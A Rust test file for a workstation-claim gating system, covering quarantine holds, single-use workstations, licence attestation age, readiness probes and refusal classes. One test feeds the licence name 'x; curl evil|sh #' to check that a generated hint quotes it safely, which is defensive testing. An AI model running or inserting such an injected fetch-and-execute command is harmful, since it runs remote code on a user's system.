//! The gates that look at the state of a workstation: what the ledger says, what probes saw.

use std::sync::Arc;

use super::claim::{plain, refuses, unmet, with};
use crate::domain::fixtures::{ANN, DANA, World, agent, at, tid};
use crate::domain::gates::{CLAIM, ClaimCase};
use crate::domain::id::WorkstationName;
use crate::domain::refusal::{Class, RefusalKind, Unmet};
use crate::domain::state::Epoch;
use crate::domain::time::{Span, Timestamp};
use crate::domain::workstation::{
    Hold, License, Probe, ProbeKind, ProbeResult, Readiness, StationState, Use,
    WorkstationLifecycle, WorkstationState,
};

const RULE: RefusalKind = RefusalKind::Rule;

fn ws() -> WorkstationName {
    WorkstationName::new("ws-1").unwrap()
}

fn said(mut world: World, state: StationState) -> World {
    Arc::make_mut(&mut world.snapshot.stations).insert(ws(), state);
    world
}

fn hold(state: WorkstationState) -> StationState {
    StationState {
        hold: Some(Hold {
            state,
            reason: "the disk fails".to_owned(),
            by: agent(DANA),
            at: at(5),
        }),
        used: None,
    }
}

#[test]
fn the_ledger_takes_a_workstation_out_of_service() {
    let world = said(plain(), hold(WorkstationState::Quarantined));
    let found = unmet(&world);
    let facts = format!(
        "ws-1 is quarantined since {} by @dana: the disk fails",
        at(5)
    );
    refuses(&found, RULE, "workstation-not-ready", &facts);
    assert!(found[0].hint.as_ref().unwrap().contains("only new claims"));
    let world = said(plain(), hold(WorkstationState::Retired));
    refuses(
        &unmet(&world),
        RULE,
        "workstation-not-ready",
        "is retired since",
    );
    assert_eq!(unmet(&said(plain(), StationState::default())), Vec::new());
}

#[test]
fn a_single_use_workstation_is_used_once_per_version() {
    let used = |version| StationState {
        hold: None,
        used: Some(Use {
            version,
            task: tid("T-9"),
            epoch: Epoch(1),
            at: at(5),
        }),
    };
    let of = |lifecycle, version| {
        said(plain(), used(version)).rules(|rules| {
            for known in rules.workstations.workstations.values_mut() {
                known.lifecycle = lifecycle;
                known.version = 2;
            }
        })
    };
    let world = of(WorkstationLifecycle::SingleUse, 2);
    refuses(&unmet(&world), RULE, "workstation-used", "`T-9` had it");
    assert_eq!(unmet(&of(WorkstationLifecycle::SingleUse, 1)), Vec::new());
    // The version went back since.
    let world = of(WorkstationLifecycle::SingleUse, 3);
    refuses(&unmet(&world), RULE, "workstation-used", "`T-9` had it");
    assert_eq!(unmet(&of(WorkstationLifecycle::Reusable, 2)), Vec::new());
}

#[test]
fn a_licence_is_attested_dated_and_not_too_old() {
    let day = 86_400;
    let attested = |available, at: Option<Timestamp>, max_age: Option<u32>| {
        let mut world = with(|t| t.requires.licenses = vec!["orca".to_owned()]);
        world.now = at_day(100);
        unmet(&world.rules(|rules| {
            rules.workstations.license_max_age = max_age.map(|d| Span::from_seconds(d * day));
            let known = rules.workstations.workstations.values_mut().next().unwrap();
            known.licenses = vec![License {
                name: "orca".to_owned(),
                available,
                attested_at: at,
                by: Some("@ops".to_owned()),
                how: None,
            }];
        }))
    };
    fn at_day(day: i64) -> Timestamp {
        at(day * 86_400)
    }
    let id = "workstation-license";
    let no = |found: &[Unmet], says: &str| refuses(found, RULE, id, says);
    no(
        &attested(false, Some(at_day(99)), None),
        "attested as missing by @ops",
    );
    no(
        &attested(true, None, Some(90)),
        "without a date; at most 90d is asked",
    );
    no(
        &attested(true, Some(at_day(9)), Some(90)),
        "more than 90d ago",
    );
    no(
        &attested(true, Some(at_day(200)), Some(90)),
        "which is to come",
    );
    assert_eq!(attested(true, Some(at_day(10)), Some(90)), Vec::new());
    assert_eq!(attested(true, None, None), Vec::new());
    let hint = attested(true, None, Some(90))[0].hint.clone().unwrap();
    assert!(hint.contains("laneway workstation attest ws-1 --license orca"));
}

#[test]
fn a_licence_in_a_hint_is_one_word_of_the_shell() {
    let found = unmet(&with(|t| {
        t.requires.licenses = vec!["x; curl evil|sh #".to_owned()];
    }));
    let hint = found[0].hint.as_deref().unwrap();
    assert!(
        hint.contains("--license 'x; curl evil|sh #' --how"),
        "{hint}"
    );
}

/// `T-1` on `ws-1`, which has the probes `db` and `disk`.
fn probed() -> World {
    plain().rules(|rules| {
        let known = rules.workstations.workstations.values_mut().next().unwrap();
        known.version = 3;
        known.probes = ["db", "disk"]
            .map(|name| Probe {
                name: name.to_owned(),
                kind: ProbeKind::Env("HOME".to_owned()),
                timeout: None,
            })
            .into();
    })
}

fn saw(edit: impl FnOnce(&mut Readiness)) -> Readiness {
    let result = |name: &str| ProbeResult {
        name: name.to_owned(),
        ready: true,
        detail: "set".to_owned(),
        millis: 1,
    };
    let mut seen = Readiness {
        workstation: ws(),
        version: 3,
        host: "host-1".to_owned(),
        at: at(0),
        probes: vec![result("db"), result("disk")],
    };
    edit(&mut seen);
    seen
}

fn looked(world: &World, seen: Option<&[Readiness]>) -> Vec<Unmet> {
    let (by, there) = (agent(ANN), ws());
    let case = ClaimCase {
        agent: Some(&by),
        workstation: Some(&there),
        host: Some("host-1"),
        readiness: seen,
        ..ClaimCase::open(
            &world.snapshot,
            world.snapshot.plan.get(&tid("T-1")).unwrap(),
            world.now,
        )
    };
    let unmet = case.unmet();
    assert_eq!(case.holds(), unmet.is_empty());
    for gate in CLAIM {
        let quiet = (gate.check)(&case).is_empty();
        assert_eq!((gate.holds)(&case), quiet, "{}", gate.page.id);
        let known = |unmet: &Unmet| gate.page.covers(unmet.gate);
        assert!((gate.check)(&case).iter().all(known), "{}", gate.page.id);
    }
    unmet
}

#[test]
fn probes_are_asked_of_a_claim_and_not_of_a_list() {
    let world = probed();
    assert_eq!(looked(&world, None), Vec::new());
    let found = looked(&world, Some(&[]));
    refuses(&found, RULE, "workstation-unprobed", "have not been run");
    assert_eq!(found[0].workstation, Some(ws()));
    assert_eq!(looked(&world, Some(&[saw(|_| {})])), Vec::new());
    assert_eq!(looked(&plain(), Some(&[])), Vec::new());
}

#[test]
fn an_observation_counts_for_its_version_host_and_moment_only() {
    let world = probed();
    for edit in [
        |seen: &mut Readiness| seen.version = 2,
        |seen: &mut Readiness| seen.host = "host-2".to_owned(),
        |seen: &mut Readiness| seen.workstation = WorkstationName::new("ws-2").unwrap(),
        |seen: &mut Readiness| seen.at = at(-601),
        |seen: &mut Readiness| seen.at = at(1),
    ] {
        let found = looked(&world, Some(&[saw(edit)]));
        refuses(&found, RULE, "workstation-unprobed", "have not been run");
    }
    assert_eq!(
        looked(&world, Some(&[saw(|s| s.at = at(-600))])),
        Vec::new()
    );
}

#[test]
fn every_probe_must_have_been_ready() {
    let world = probed();
    let failed = saw(|seen| {
        seen.probes[0].ready = false;
        seen.probes[0].detail = "connection refused".to_owned();
    });
    let found = looked(&world, Some(std::slice::from_ref(&failed)));
    let says = "ws-1 is not ready: db: connection refused";
    refuses(&found, RULE, "workstation-not-ready", says);
    let missing = saw(|seen| drop(seen.probes.pop()));
    let found = looked(&world, Some(&[missing]));
    refuses(
        &found,
        RULE,
        "workstation-not-ready",
        "disk: it was not run",
    );
    // Cut to what failed, it says no more than that.
    let mut cut = failed.clone();
    cut.probes.truncate(1);
    let found = looked(&world, Some(&[cut]));
    assert_eq!(found.len(), 1);
    refuses(&found, RULE, "workstation-not-ready", says);
    // The last look counts.
    assert_eq!(looked(&world, Some(&[failed, saw(|_| {})])), Vec::new());
}

#[test]
fn every_refusal_of_a_claim_has_a_class() {
    // Each with the reason why it is none of an assignment.
    let others = [
        ("plan-unsound", "the plan is at fault"),
        ("package-unsound", "the package is at fault"),
        ("role-unknown", "policy is at fault"),
        ("task-closed", "there is no work left"),
        ("lane-wrong", "the wish is at fault"),
        ("identity-map", "a page, not a refusal"),
        ("stage-executor", "a page, not a refusal"),
        ("workstation", "a page, not a refusal"),
    ];
    for gate in CLAIM {
        let own = gate.page.refusals.iter().map(|(id, _)| *id);
        for id in own.chain([gate.page.id]) {
            let listed = others.iter().any(|(other, _)| *other == id);
            assert_eq!(Class::of(id) == Class::Other, listed, "{id}");
        }
    }
}

#[test]
fn the_errors_of_an_assignment_are_told_apart() {
    for (gate, class) in [
        ("rerun-identity", Class::Map),
        ("stage-agent", Class::Map),
        ("stage-capability", Class::Readiness),
        ("remote-execution", Class::Readiness),
        ("stage-gate", Class::Sequencing),
        ("workstation-missing", Class::Missing),
        ("route-agent", Class::Map),
        ("agent-unknown", Class::Map),
        ("workstation-not-ready", Class::Readiness),
        ("workstation-unprobed", Class::Readiness),
        ("workstation-license", Class::Readiness),
        ("dependency", Class::Sequencing),
        ("merge-order", Class::Sequencing),
        ("workstation-full", Class::Occupied),
        ("lane-busy", Class::Occupied),
        ("note-size", Class::Other),
    ] {
        assert_eq!(Class::of(gate), class, "{gate}");
    }
}
